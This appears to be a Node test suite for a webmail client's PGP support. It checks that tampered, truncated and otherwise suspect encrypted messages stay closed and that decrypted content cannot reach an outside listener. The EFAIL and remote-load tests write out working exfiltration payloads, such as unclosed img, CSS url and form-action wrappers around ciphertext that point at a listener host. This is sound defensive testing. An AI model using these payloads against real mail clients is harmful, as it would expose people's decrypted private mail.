import assert from 'node:assert/strict'
import { after, afterEach, before, test } from 'node:test'
import { headOf, PgpMember, plainOf, SECRET } from './harness/pgp-member.ts'
import { encryptedParts, pgpMime } from './harness/pgp-post.ts'

let member: PgpMember

before(async () => {
  member = await PgpMember.open('webmail-pgp-hostile')
})
afterEach(() => member.assertQuiet())
after(() => member?.[Symbol.asyncDispose]())

/** The armour with one of its letters changed. */
function flipped(armor: string): string {
  const at = armor.indexOf('\n\n') + 230
  return armor.slice(0, at) + (armor[at] === 'A' ? 'B' : 'A') + armor.slice(at + 1)
}

async function seal(entity: string, args: readonly string[] = []): Promise<string> {
  return Buffer.from(
    await member.post.gpg([...args, '--recipient', member.key.fingerprint, '--encrypt'], entity),
  ).toString()
}

test('why a message is not opened is told in words, and nothing of it is shown', async () => {
  const { post, page, ada } = member
  const armor = await seal(plainOf(), ['--compress-algo', 'none'])
  const password = Buffer.from(await post.gpg(['--passphrase', 'x', '--symmetric'], plainOf())).toString()
  const rows: [subject: string, message: string, said: RegExp][] = [
    ['for me', pgpMime(headOf('for me'), armor), /It can be read when/],
    ['tampered', pgpMime(headOf('tampered'), flipped(armor)), /Not opened: it was changed on the way/],
    ['cut', pgpMime(headOf('cut'), armor.slice(0, 250)), /Not opened: it was changed on the way, or is not complete/],
    [
      'no integrity',
      pgpMime(headOf('no integrity'), await seal(plainOf(), ['--rfc2440'])),
      /Not opened: it is encrypted in the old way without integrity/,
    ],
    ['password', pgpMime(headOf('password'), password), /Not opened: it is encrypted with a password/],
    [
      'not for me',
      await post.encrypted(headOf('not for me'), ['--recipient', ada], plainOf()),
      /Encrypted to keys that are not yours: [0-9A-F]{4} /,
    ],
    ['hidden', await post.encrypted(headOf('hidden'), ['--hidden-recipient', ada], plainOf()), /does not say for whom/],
    ['nonsense', pgpMime(headOf('nonsense'), 'hello'), /Not opened: it is called encrypted/],
  ]
  await member.deliver(rows.map(([, message]) => message))
  await page.goto('/mail/#/')
  await member.rowOf('nonsense').waitFor()
  await member.read('for me')
  await member.unlock()
  await page.locator('.text', { hasText: SECRET }).waitFor()
  for (const [subject, , said] of rows.slice(1)) {
    assert.match(await member.read(subject), said, subject)
    assert.equal(await page.locator('.text, .html').count(), 0, subject)
  }
  await member.read('tampered')
  await page.locator('.protection summary').click()
  await member.anna.assertSightly('tampered')
})

test('EFAIL: what is encrypted beside other text is never opened, and the listener hears nothing', async () => {
  const { page, leak } = member
  const armor = await seal(`Content-Type: text/html\n\n${SECRET}`)
  const within = `--m\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\n\n${encryptedParts(armor)}`
  const open = `--m\nContent-Type: text/html\n\n<img src="${leak}/a?\n`
  const close = '--m\nContent-Type: text/html\n\n">\n'
  const mixed = (subject: string, parts: string) =>
    `${headOf(subject)}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="m"\n\n${parts}--m--\n`
  const html = (subject: string, body: string) =>
    `${headOf(subject)}MIME-Version: 1.0\nContent-Type: text/html\n\n${body}\n`
  const rows: [string, string][] = [
    ['efail around', mixed('efail around', open + within + close)],
    ['efail before', mixed('efail before', open + within)],
    ['efail alone', mixed('efail alone', within)],
    ['efail in HTML', html('efail in HTML', `<pre>\n${armor}</pre>`)],
    ['efail in attribute', html('efail in attribute', `<img src="${leak}/b?\n${armor}">`)],
    ['efail in style', html('efail in style', `<style>p{background:url('${leak}/c?\n${armor}')}</style><p>x`)],
    ['efail in form', html('efail in form', `<form action="${leak}/d"><textarea name=t>\n${armor}</textarea><button>`)],
    ['efail below text', `${headOf('efail below text')}\nSee below\n\n${armor}`],
    [
      'efail as in Outlook',
      mixed(
        'efail as in Outlook',
        `--m\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--m\nContent-Type: application/octet-stream\n\n${armor}\n`,
      ),
    ],
  ]
  await member.deliver(rows.map(([, message]) => message))
  for (const [subject] of rows) {
    assert.match(await member.read(subject), /The encrypted part is not opened: other text stands beside it/, subject)
    assert.equal(await page.locator('.reading').getByText(SECRET).count(), 0, subject)
  }
})

test('HTML that was encrypted loads nothing, and the listener hears nothing', async () => {
  const { page, leak } = member
  const loads = [
    '<img src="U/1">',
    '<link rel=stylesheet href="U/2">',
    '<style>@import url(U/3);p{background:url(U/4)}@font-face{font-family:x;src:url(U/15)}p{font-family:x}</style>',
    '<p style="background:url(U/5)">',
    '<iframe src="U/6"></iframe>',
    '<video poster="U/7" src="U/8"></video>',
    '<img srcset="U/9 2x">',
    '<script>fetch("U/10")</script>',
    '<meta http-equiv=refresh content="0;url=U/11">',
    '<svg><image href="U/12"/></svg>',
    '<link rel=preconnect href="U/13">',
    '<object data="U/14"></object>',
    '<table background="U/18"><tr><td background="U/19">x</table>',
    '<audio src="U/20" autoplay></audio><embed src="U/21"><input type=image src="U/22">',
  ]
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  const body = `<h1>Plan</h1><p>${SECRET}</p><img src="cid:dot@x" alt="dot" width=9 height=9>${loads.join('').replaceAll('U', leak)}`
  const related = `Content-Type: multipart/related; boundary="r"\n\n--r\nContent-Type: text/html; charset=utf-8\n\n${body}\n--r\nContent-Type: image/png\nContent-ID: <dot@x>\nContent-Transfer-Encoding: base64\nContent-Disposition: inline\n\n${dot}\n--r--\n`
  await member.deliver([pgpMime(headOf('sealed HTML'), await seal(related))])
  assert.match(await member.read('sealed HTML'), /opened here/)
  const frame = page.frameLocator('.html')
  await frame.getByText(SECRET).waitFor()
  assert.match((await frame.locator('img[alt=dot]').getAttribute('src')) ?? '', /^data:image\/png;base64,/)
  assert.equal(await page.locator('.images').count(), 0)
  assert.equal(
    await page.locator('.html').getAttribute('sandbox'),
    'allow-scripts allow-popups allow-popups-to-escape-sandbox',
  )
  // Nor when it is answered, or passed on.
  for (const act of ['r', 'f']) {
    await page.keyboard.press(act)
    const composer = page.locator('.composer')
    await composer.locator('.writing', { hasText: SECRET }).waitFor()
    await composer.locator('[aria-label="Throw away"]').click()
    await composer.waitFor({ state: 'detached' })
  }
})
